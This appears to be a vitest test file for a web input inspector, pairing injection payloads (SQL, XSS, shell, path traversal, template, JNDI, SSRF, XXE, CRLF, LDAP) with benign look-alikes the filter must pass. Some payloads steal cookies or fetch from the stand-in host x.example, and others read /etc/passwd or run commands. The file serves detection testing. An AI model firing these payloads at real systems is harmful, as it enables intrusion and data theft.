import { describe, expect, test } from "vitest";
import { inspectValue, score } from "./inspect.ts";

/** Attacks and honest neighbours, by rule family. Each attack must reach the threshold with a rule of that family. */
const CASES: Readonly<Record<string, { readonly hits: readonly string[]; readonly passes: readonly string[] }>> = {
  sql: {
    hits: [
      "' or 1=1 --",
      "1 or 1=1",
      "x' or email like '%@%",
      "') or ('1'='1",
      '" or ""="',
      "' or username='admin",
      "admin'--",
      "0); drop table kelp; --",
      "1 union select null,null",
      "1e0union select 1",
      "' union/**/select/**/1,2--",
      "1/*!50000union*/ /*!50000select*/ 1",
      "'||(select 1)||'",
      "1 and sleep(5)",
      "if(now()=sysdate(),sleep(6),0)",
      "1 order by 10",
      "' having 1=1--",
      "';waitfor delay '0:0:5'--",
      "'; exec xp_cmdshell 'dir'--",
      "a'and/*d*/456=678--",
      "' and extractvalue(1,concat(0x7e,version()))-- -",
      "(select case when (1=1) then 1 else 0 end)",
      "1' in boolean mode) union all select null,null--",
    ],
    passes: [
      "O'Brien",
      "select a size or drop by",
      "I'm like 'or what?' and she's like 'and?'",
      "credit union select checking account",
      "drop table legs 30 inch",
      "insert into slot a and update the firmware",
      "sleep(8) hours a night",
      "In memory of 'Pops' -- 1931/2024",
      "count(*) of kelp",
      "Wrong item: ordered 'XL' OR 'L', got 'S' -- see photo",
      "5'10\" in cm",
      '(("kelp"[ti]) AND ("2020"[dp] : "3000"[dp]))',
      "pe<15 and yield>3 order by pe",
      "-1' is cold",
      "Is 3 > 2 or 2 > 3? Ask Ann.",
    ],
  },
  xss: {
    hits: [
      "<script>alert(1)</script>",
      "<script src=//x.example/a.js></script>",
      "<img src=x onerror=alert(1)>",
      '"><svg/onload=confirm`1`>',
      "' onmouseover='alert(1)",
      '<a href="java\tscript:alert(1)">x</a>',
      "<iframe srcdoc=x>",
      '<div style="width:expression(alert(1))">',
      "javascript:alert(document.cookie)",
      'top["al"+"ert"](1)',
      "[].filter.constructor('alert(1)')()",
      "<math><a xlink:href=javascript:alert(1)>",
      "\";document.location='//x.example/'+document.cookie;//",
      "<svg><set attributeName=onmouseover to=alert(1)>",
    ],
    passes: [
      "<script> tag not working",
      "onclick= vs addEventListener",
      "javascript:void(0)",
      "a<b>c",
      "I <3 you",
      "<p>Hello <b>world</b></p><p>bye</p>",
      "price <$50 & >$20",
      "alert (see below) the neighbours",
      "<no subject>",
      '<img src=a.png onerror="this.remove()">',
    ],
  },
  shell: {
    hits: [
      "; cat /etc/passwd",
      "|id",
      "8.8.8.8 && whoami",
      "$(curl http://x.example)",
      "`id`",
      "() { :;}; echo vulnerable",
      "x;c'a't /etc/passwd",
      "| powershell -enc aQBlAHgA",
      "& ping -n 3 127.0.0.1",
      "a;{curl,http://x.example}",
      "echo$IFS$((4+3))",
    ],
    passes: [
      "git pull && npm i || cry",
      "rm -rf meaning",
      "grep -r 'kelp' . | wc -l",
      "cat /etc/hosts explained",
      "AT&T, T-Mobile",
      "B&B near me",
      "red; green; blue",
      "I'd like to; we'd rather not",
      "exec meeting; table the motion",
      "C:\\> dir /s & echo done",
    ],
  },
  path: {
    hits: [
      "../../../../etc/passwd",
      "..\\..\\windows\\win.ini",
      "....//....//etc/passwd",
      "/etc/passwd",
      "php://filter/convert.base64-encode/resource=x",
      "file:///etc/hosts",
      "..%c0%af..%c0%afetc/passwd",
      "C:\\boot.ini",
      "/proc/self/environ",
    ],
    passes: [
      "../ up one dir",
      "see ./img/a.png",
      "C:\\Users\\Ann\\report.docx",
      "php://input vs $_POST",
      "and/or",
      "24/7",
      "3/4 cup",
      "~/notes",
    ],
  },
  template: {
    hits: [
      "{{7*7}}",
      "${7*7}",
      "#{7*7}",
      "<%= 7*7 %>",
      "{{config.items()}}",
      "${T(java.lang.Runtime).getRuntime().exec('id')}",
      "{{''.__class__.__mro__}}",
    ],
    passes: ["${name}, your code is {{code}}", "#{ruby} interpolation", "{{ first_name }}", "{ a: 1 }", "{{#each items}}", "50% {off}"],
  },
  nosql: {
    hits: ['{"$ne": null}', "' || this.password.match(/a/) || '", "'; return true; var x='"],
    passes: ["costs $5 or $gt", "this is fine", '{"a":1}'],
  },
  lookup: {
    hits: ["${jndi:ldap://x.example/a}", "${${lower:j}ndi:ldap://x.example/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example}"],
    passes: ["jndi: a naming interface", "${user.name}"],
  },
  ssrf: {
    hits: ["http://169.254.169.254/latest/meta-data/", "http://0x7f000001:6379/", "http://[::ffff:127.0.0.1]/", "http://2130706433/"],
    passes: ["https://www.example.org/a?b=c", "see http://localhost in the docs"],
  },
  xxe: {
    hits: [
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
      '<!DOCTYPE a [<!ENTITY % c SYSTEM "http://x.example/d"> %c;]>',
    ],
    passes: ["<!DOCTYPE html>", "<note><to>Ann</to></note>"],
  },
  code: {
    hits: [
      "system($_GET['c'])",
      'O:8:"Evil\\Cls":1:{s:1:"a";i:1;}',
      "__import__('os').system('id')",
      "java.lang.ProcessBuilder",
      "phpinfo()",
      "rO0ABXNyABNqYXZh",
    ],
    passes: ["eval() is evil", "base64_decode(", "system (solar)", "import goods"],
  },
  crlf: {
    hits: ["a\r\nSet-Cookie: x=1", "a\r\n\r\nHTTP/1.1 200 OK", "x@example.com\r\nbcc: y@example.com"],
    passes: ["line one\r\nline two", "Dear all,\nto: whom it may concern\n"],
  },
  ldap: { hits: ["*)(uid=*))(|(uid=*", "admin)(|(password=*"], passes: ["(a) and (b)", "5 * (3 + 2)"] },
  prototype: { hits: [], passes: ["proto types", "constructor"] },
};

describe.each(Object.entries(CASES))("content inspection, %s", (family, { hits, passes }) => {
  test.each(hits)("blocks %j and names its language", (value) => {
    const findings = inspectValue(value);
    expect(score(findings)).toBeGreaterThanOrEqual(100);
    expect(findings.some((finding) => finding.rule.startsWith(family) || (family === "ldap" && finding.rule.startsWith("ldap")))).toBe(
      true,
    );
  });
  test.each(passes)("passes %j", (value) => {
    expect(score(inspectValue(value))).toBeLessThan(100);
  });
});
